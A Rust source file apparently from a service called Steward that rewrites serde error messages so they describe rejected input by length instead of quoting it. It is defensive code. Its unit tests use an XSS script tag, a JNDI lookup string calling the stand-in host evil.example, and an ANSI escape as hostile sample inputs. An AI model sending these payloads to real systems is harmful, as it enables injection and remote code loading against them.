//! Error messages that quote no input.
//!
//! A refusal names the field and the problem. It never repeats what the caller sent: a
//! value can be a script tag, a JNDI lookup, control characters or 300 KB, and error
//! messages travel into logs, audit records, dead-letter queues and partner dashboards.
//! serde's messages do quote input (``unknown variant `<x>` ``, `invalid type: string "<x>"`),
//! so every serde message Steward passes on goes through [`serde_message`], and any other
//! text from outside goes through [`described`].

/// How Steward names a value it will not quote: its kind and length.
pub fn described(value: &str) -> String {
    format!("a value of {} characters", value.chars().count())
}

/// Whether a key is safe to name as it is (a field name as Steward's schemas spell them).
pub fn is_plain_name(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 64
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
}

/// A serde error message with everything it quotes from the input replaced by a description.
/// The parts serde takes from Steward's own types (`expected …`, `missing field `x``) stay.
pub fn serde_message(msg: &str) -> String {
    // serde_json adds " at line L column C" to messages from text; keep it (no input).
    let (body, position) = match msg.rfind(" at line ") {
        Some(i) if msg[i..].contains(" column ") => msg.split_at(i),
        _ => (msg, ""),
    };
    let out = if let Some(rest) = strip_any(body, &["invalid type: ", "invalid value: "]) {
        let (head, tail) = split_expected(rest);
        let kind = head.split([' ', '`']).next().unwrap_or("value");
        let prefix = &body[..body.len() - rest.len()];
        format!("{prefix}{kind}{tail}")
    } else if let Some(rest) = strip_any(body, &["unknown variant ", "unknown field "]) {
        let (head, tail) = split_expected(rest);
        let prefix = &body[..body.len() - rest.len()];
        let name = head.trim_matches('`');
        if is_plain_name(name) {
            format!("{prefix}`{name}`{tail}")
        } else {
            format!("{prefix}({}){tail}", described(name))
        }
    } else if body.starts_with("missing field ")
        || body.starts_with("duplicate field ")
        || body.starts_with("invalid length ")
    {
        body.to_owned()
    } else {
        quoted_parts_described(body)
    };
    let mut out = format!("{out}{position}");
    out.retain(|c| !c.is_control());
    if out.chars().count() > 300 {
        out = out.chars().take(300).collect::<String>() + "…";
    }
    out
}

fn strip_any<'a>(s: &'a str, prefixes: &[&str]) -> Option<&'a str> {
    prefixes.iter().find_map(|p| s.strip_prefix(p))
}

/// `<what was found>, expected <what Steward wanted>` → the two parts (the second with its
/// separator). serde writes the found part first, so the last ", expected " or ", there are
/// no" separates them even when the found part contains one.
fn split_expected(rest: &str) -> (&str, &str) {
    let at = [", expected ", ", there are no "]
        .iter()
        .filter_map(|sep| rest.rfind(sep))
        .max();
    match at {
        Some(i) => rest.split_at(i),
        None => (rest, ""),
    }
}

/// Any other message: every span in backticks, double or single quotes is described.
fn quoted_parts_described(s: &str) -> String {
    let mut out = String::with_capacity(s.len().min(512));
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if matches!(c, '`' | '"' | '\'') {
            let mut inner = String::new();
            let mut closed = false;
            for d in chars.by_ref() {
                if d == c {
                    closed = true;
                    break;
                }
                inner.push(d);
            }
            if closed && is_plain_name(&inner) {
                out.push(c);
                out.push_str(&inner);
                out.push(c);
            } else {
                out.push('(');
                out.push_str(&described(&inner));
                out.push(')');
            }
        } else {
            out.push(c);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: &str = "<script>alert(1)</script>";

    fn serde_error<T: serde::de::DeserializeOwned + std::fmt::Debug>(
        v: serde_json::Value,
    ) -> String {
        serde_json::from_value::<T>(v).unwrap_err().to_string()
    }

    #[derive(Debug, serde::Deserialize)]
    #[serde(rename_all = "SCREAMING_SNAKE_CASE")]
    enum Mode {
        Manual,
        AlwaysOn,
    }

    #[derive(Debug, serde::Deserialize)]
    #[serde(deny_unknown_fields)]
    #[allow(dead_code)]
    struct Detail {
        mode: Mode,
        minutes: u32,
    }

    #[test]
    fn serde_messages_keep_what_steward_expected_and_drop_what_was_sent() {
        let m = serde_message(&serde_error::<Mode>(serde_json::json!(HOSTILE)));
        assert_eq!(
            m,
            "unknown variant (a value of 25 characters), expected `MANUAL` or `ALWAYS_ON`"
        );
        let m = serde_message(&serde_error::<u32>(serde_json::json!(HOSTILE)));
        assert_eq!(m, "invalid type: string, expected u32");
        let m = serde_message(&serde_error::<u32>(serde_json::json!(-5)));
        assert_eq!(m, "invalid value: integer, expected u32");
        let m = serde_message(&serde_error::<Detail>(
            serde_json::json!({"mode": "MANUAL", "minutes": 1, HOSTILE: 1}),
        ));
        assert!(
            m.starts_with("unknown field (a value of 25 characters), expected"),
            "{m}"
        );
        let m = serde_message(&serde_error::<Detail>(
            serde_json::json!({"mode": "MANUAL"}),
        ));
        assert_eq!(m, "missing field `minutes`");
        // A plain unknown name is still named: it helps the partner and carries nothing.
        let m = serde_message(&serde_error::<Detail>(
            serde_json::json!({"mode": "MANUAL", "minutes": 1, "colour": 1}),
        ));
        assert!(m.starts_with("unknown field `colour`, expected"), "{m}");
    }

    #[test]
    fn anything_else_quoted_is_described_and_long_messages_are_cut() {
        let jndi = "${jndi:ldap://evil.example/a}";
        let m = serde_message(&format!("custom failure for \"{jndi}\" in 'x'"));
        assert_eq!(m, "custom failure for (a value of 29 characters) in 'x'");
        let big = "A".repeat(300_000);
        let m = serde_message(&format!("odd {big}\u{1b}[31m"));
        assert!(m.chars().count() <= 301 && !m.contains('\u{1b}'));
        let m = serde_message("trailing characters at line 1 column 5");
        assert_eq!(m, "trailing characters at line 1 column 5");
    }
}
